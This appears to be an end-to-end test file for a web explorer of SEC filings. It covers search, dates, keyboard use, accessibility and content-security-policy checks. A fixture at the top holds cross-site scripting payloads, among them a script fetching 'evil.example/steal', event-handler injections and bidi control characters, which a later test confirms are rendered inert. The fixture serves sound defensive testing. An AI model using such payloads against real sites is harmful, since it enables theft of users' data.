import { sql } from 'kysely';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type RunningServer, startServer } from '../../cli/serve/start-server.ts';
import { parseCik } from '../../core/ids.ts';
import { createTestArchive, type SampleFiling, type TestArchive } from '../workflow/sample-archive.ts';
import { createTestStack, type TestStack } from '../workflow/test-stack.ts';
import { EVERYTHING } from '../workflow/undisturbed-run.ts';
import { accessibilityProblems, contrastProblems, startBrowser, watchedPage } from './browser.ts';
import { replaceFiling, submissionOf } from './hostile-filings.ts';

const HOSTILE = `<html><head><title>x</title><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="document.title='owned'"><script>document.title = 'owned'; fetch('https://evil.example/steal')</script>
<p onclick="document.title='owned'">Item 8.01 Other \u202Eevents\u202C of ACME\u0000 Corp</p>
<a href="javascript:document.title='owned'">click</a><img src="x" onerror="document.title='owned'">
<iframe src="https://evil.example/frame"></iframe><svg onload="document.title='owned'"></svg>
<style>body { display: none }</style><span style="display:none">hidden words</span>
<p>&lt;script&gt;document.title='owned'&lt;/script&gt; </section></main><h1>second</h1></p></body></html>`;

let archive: TestArchive;
let stack: TestStack;
let server: RunningServer;
let browser: Browser;
let hostile: SampleFiling;
let issuer: { cik: string; ticker: string; name: string };

beforeAll(async () => {
  archive = await createTestArchive('explorer', 6);
  hostile = archive.filings.find(({ form }) => form === '8-K') as SampleFiling;
  const document = { type: '8-K', filename: 'evil.htm', text: HOSTILE };
  await replaceFiling(archive, hostile, submissionOf(hostile, [document]));
  stack = await createTestStack();
  await stack.startWorker();
  await stack.ingest(EVERYTHING, archive.dir);
  // The issuers' submission lists show that nothing precedes the archive; without them most scores are withheld.
  const ciks = [...new Set(archive.filings.map(({ path }) => parseCik(path.split('/')[3] ?? '')))];
  await stack.ingest({ by: 'cik', ciks }, archive.dir, { discoverOnly: true });
  await stack.nightly('2025-03-28', archive.dir, archive.prices);
  await stack.nightly('2025-03-31', archive.dir, archive.prices);
  server = await startServer(stack.config, { databaseUrl: stack.addresses.databaseUrl }, { port: 0 });
  browser = await startBrowser();
  const { rows } = await sql<typeof issuer>`
    select cik, ticker, name from score.scores where ticker is not null
    order by as_of_date desc, score desc nulls last limit 1
  `.execute(stack.db);
  issuer = rows[0] as typeof issuer;
}, 400_000);

afterAll(async () => {
  await browser?.close();
  await server?.stop();
  await stack?.close();
  await archive?.remove();
});

async function open(options: Parameters<Browser['newContext']>[0] = {}): Promise<BrowserContext> {
  return browser.newContext({ baseURL: server.url, locale: 'en-US', ...options });
}

const PATHS = () => {
  const root = `/issuers/${issuer.cik}`;
  const sections = 'score offerings instruments listing shares cash statements votes subsidiaries owners filings'.split(
    ' ',
  );
  const filing = `/filings/${hostile.accessionNumber}`;
  return [
    '/',
    '/?q=inc',
    '/?q=%00%E2%80%AE',
    root,
    ...sections.map((name) => `${root}/${name}`),
    filing,
    `${filing}/documents/1`,
  ];
};

describe('a reader of the explorer', () => {
  test('searches an issuer, opens a number, and sees its exact words in the filing', async () => {
    const context = await open();
    const { page, problems } = await watchedPage(context, server.url);
    await page.goto('/');
    await page.fill('#q', issuer.ticker);
    await page.press('#q', 'Enter');
    await page.click(`.results a[href^="/issuers/${issuer.cik}"]`);
    expect(await page.textContent('h1')).toBe(issuer.name);
    await page.click('nav.tabs a:text("Score")');
    const links = page.locator('.factor a.src[href*="span="]');
    const count = await links.count();
    expect(count).toBeGreaterThan(5);
    const opened: string[] = [];
    for (const place of [0, Math.floor(count / 2), count - 1]) {
      const link = links.nth(place);
      const number = ((await link.textContent()) ?? '').trim();
      await link.click();
      const marks = await page.locator('mark').allTextContents();
      const words = (await page.locator('#words').textContent()) ?? '';
      const flat = (text: string) => text.replace(/\s+/g, '');
      expect(flat(marks.join('')), page.url()).toBe(flat(words));
      expect(flat(words)).not.toBe('');
      // What a number says stands in the words; the label of a source need not.
      const digits = /^[$−]*[\d,]+$/.test(number) ? number.replace(/\D/g, '') : '';
      expect(words.replace(/[^\d.]/g, '')).toContain(digits);
      await expect
        .poll(() => page.locator('#span').evaluate((mark) => mark.getBoundingClientRect().top))
        .toBeLessThan(720);
      expect(await page.locator('aside').textContent()).toMatch(/Confidence.*Parser.*Materialization/s);
      opened.push(page.url());
      await page.goBack();
    }
    expect(new Set(opened).size).toBeGreaterThan(1);
    expect(problems).toEqual([]);
    await context.close();
  }, 120_000);

  test('chooses a date that every link keeps, and learns what is wrong with a bad one', async () => {
    const context = await open();
    const { page } = await watchedPage(context, server.url);
    await page.goto(`/issuers/${issuer.cik}`);
    await page.fill('#as_of', '2025-03-28');
    await page.press('#as_of', 'Enter');
    await page.waitForURL('**as_of=2025-03-28**');
    expect(await page.textContent('.asof .shown')).toContain('2025-03-28');
    const hrefs = await page
      .locator('main a[href^="/"]')
      .evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''));
    expect(hrefs.length).toBeGreaterThan(10);
    expect(hrefs.filter((href) => !href.includes('as_of=2025-03-28'))).toEqual([]);
    const before = await page.goto(`/issuers/${issuer.cik}?as_of=1994-01-01`);
    expect(before?.status()).toBe(200);
    expect(await page.textContent('main')).toContain('Nothing was public yet');
    const bad = await page.goto('/?as_of=2025-02-30');
    expect(bad?.status()).toBe(400);
    expect(await page.textContent('main')).toContain('YYYY-MM-DD');
    await context.close();
  }, 60_000);

  test('needs no mouse', async () => {
    const context = await open();
    const { page } = await watchedPage(context, server.url);
    await page.goto('/');
    await page.keyboard.press('Tab');
    expect(await page.evaluate('document.activeElement.className')).toBe('skip');
    await page.keyboard.press('/');
    expect(await page.evaluate('document.activeElement.id')).toBe('q');
    await page.keyboard.type(issuer.ticker);
    await page.keyboard.press('Enter');
    await page.waitForURL('**q=**');
    const reached = async (href: string): Promise<void> => {
      for (let presses = 0; presses < 60; presses += 1) {
        await page.keyboard.press('Tab');
        const own = await page.evaluate('document.activeElement.getAttribute("href") ?? ""');
        if (String(own).startsWith(href)) return;
      }
      throw new Error(`no way by keyboard to ${href}`);
    };
    await reached(`/issuers/${issuer.cik}`);
    await page.keyboard.press('Enter');
    await page.waitForURL(`**/issuers/${issuer.cik}`);
    await reached(`/issuers/${issuer.cik}/score`);
    await page.keyboard.press('Enter');
    await page.waitForURL('**/score');
    await reached('/filings/');
    await page.keyboard.press('Enter');
    await page.waitForURL('**/documents/**');
    await context.close();
  }, 60_000);

  test('switches between light and dark, and the choice lasts', async () => {
    const context = await open({ colorScheme: 'light' });
    const { page } = await watchedPage(context, server.url);
    const ground = () => page.evaluate<string>('getComputedStyle(document.body).backgroundColor');
    await page.goto('/');
    const light = await ground();
    await page.click('#theme');
    await page.click('#theme');
    expect(await ground()).not.toBe(light);
    const dark = await ground();
    await page.goto('/sign-in');
    expect(await ground()).toBe(dark);
    await context.close();
  });

  test('searches and reads without scripts', async () => {
    const context = await open({ javaScriptEnabled: false });
    const page = await context.newPage();
    await page.goto(`/?q=${issuer.ticker}`);
    await page.click(`.results a[href^="/issuers/${issuer.cik}"]`);
    await page.click('summary:text("Scores as a table")');
    expect(await page.locator('figure[data-chart="score"] tbody tr').count()).toBeGreaterThan(0);
    await context.close();
  });
});

test('every page is sound: no errors, no violation of the policy, nothing wider than a phone, readable by all', async () => {
  const looks = [
    { viewport: { width: 1280, height: 900 }, colorScheme: 'light' },
    { viewport: { width: 390, height: 844 }, colorScheme: 'dark' },
  ] as const;
  for (const look of looks) {
    const context = await open(look);
    const { page, problems } = await watchedPage(context, server.url);
    for (const path of PATHS()) {
      const answer = await page.goto(path);
      expect(answer?.status(), path).toBe(200);
      expect(answer?.headers()['content-security-policy'], path).toContain("default-src 'none'");
      expect(await accessibilityProblems(page), path).toEqual([]);
      expect(await contrastProblems(page), path).toEqual([]);
      const width = await page.evaluate<number>('document.documentElement.scrollWidth');
      expect(width, path).toBeLessThanOrEqual(look.viewport.width);
    }
    expect(problems).toEqual([]);
    await context.close();
  }
}, 180_000);

test('the checks of pages find what is wrong', async () => {
  const context = await open();
  const page = await context.newPage();
  await page.setContent(
    '<main><h1>a</h1><h3>b</h3><input name="x"><a href="/"></a><p style="color:#aaa">pale</p></main>',
  );
  const found = await accessibilityProblems(page);
  for (const problem of ['no language', 'no title', 'skips a level', 'no label', 'without a name']) {
    expect(found.join('\n')).toContain(problem);
  }
  expect(await contrastProblems(page)).toHaveLength(1);
  await context.close();
});

test.each(['en-US', 'en-US@posix'])('the charts are drawn where the browser speaks %s', async (language) => {
  const context = await open();
  await context.addInitScript(
    `Object.defineProperty(navigator, 'language', { value: '${language}', configurable: true })`,
  );
  const { page, problems } = await watchedPage(context, server.url);
  await page.goto(`/issuers/${issuer.cik}`);
  await expect.poll(() => page.locator('figure[data-chart] .plot[role="img"] canvas').count()).toBe(3);
  const inked = await page.evaluate<number>(
    '[...document.querySelectorAll("canvas")].filter((c) => c.getContext("2d").getImageData(0, 0, c.width, c.height).data.some((v) => v > 0)).length',
  );
  expect(inked).toBe(3);
  expect(problems).toEqual([]);
  await context.close();
});

test('nothing of a hostile filing runs, and what it hides is shown as text', async () => {
  const context = await open();
  const { page, problems } = await watchedPage(context, server.url);
  await page.goto(`/filings/${hostile.accessionNumber}/documents/1`);
  await page.waitForTimeout(500);
  expect(await page.title()).toContain('8-K of');
  expect(problems).toEqual([]);
  const text = (await page.textContent('.document')) ?? '';
  for (const shown of [
    "document.title = 'owned'",
    'event handler onclick',
    "javascript:document.title='owned'",
    'hidden words',
    '<script>',
  ]) {
    expect(text).toContain(shown);
  }
  expect(text).not.toMatch(/[\u202e\u202c\0]/);
  const codes = await page
    .locator('.document .ctl')
    .evaluateAll((all) => all.map((one) => one.getAttribute('data-code')));
  expect(codes).toEqual(expect.arrayContaining(['U+202E', 'U+202C']));
  expect(
    await page
      .locator('.document')
      .locator('script, iframe, img, svg, style, a[href^="javascript"], [onclick]')
      .count(),
  ).toBe(0);
  await context.close();
});
